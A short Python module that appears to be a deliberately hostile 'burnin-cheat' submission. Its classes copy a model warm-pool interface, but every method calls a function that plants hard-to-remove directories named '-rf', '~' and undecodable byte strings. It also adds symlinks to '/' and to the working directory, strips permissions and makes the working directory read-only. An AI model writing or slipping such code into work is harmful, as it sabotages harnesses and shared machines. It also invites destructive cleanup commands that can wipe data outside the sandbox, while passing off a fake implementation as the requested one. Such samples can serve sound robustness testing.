"""Leave files and folders that resist removal: without permissions, with strange names, links to others' folders."""

import os


def trick(pool, asked):
    for name in (b"burnin-cheat-\xff", b"burnin-cheat-\n", b"burnin-cheat-" + b"n" * 230, b"-rf", b"~"):
        try:
            os.mkdir(name)
            os.symlink("/", name + b"/root")
            os.symlink(os.getcwd(), name + b"/loop")
            os.chmod(name, 0)
        except OSError:
            continue
    os.symlink("/proc/self/fd", "burnin-cheat-fds")
    os.chmod(".", 0o500)
    return None


class WarmPool:
    def __init__(self, host, budget):
        self.host = host

    def get(self, model):
        return trick(self, model)

    acquire = get


class AsyncWarmPool:
    def __init__(self, host, budget, *, pinned=(), idle_ttl=None, policy=None):
        self.host = host

    async def __aenter__(self):
        return self

    async def __aexit__(self, kind, error, traceback):
        return None

    async def acquire(self, model):
        return trick(self, model)


class KeepWarmPolicy:
    def requested(self, model, now):
        trick(self, model)

    def victims(self, candidates, needed, now):
        return trick(self, needed)
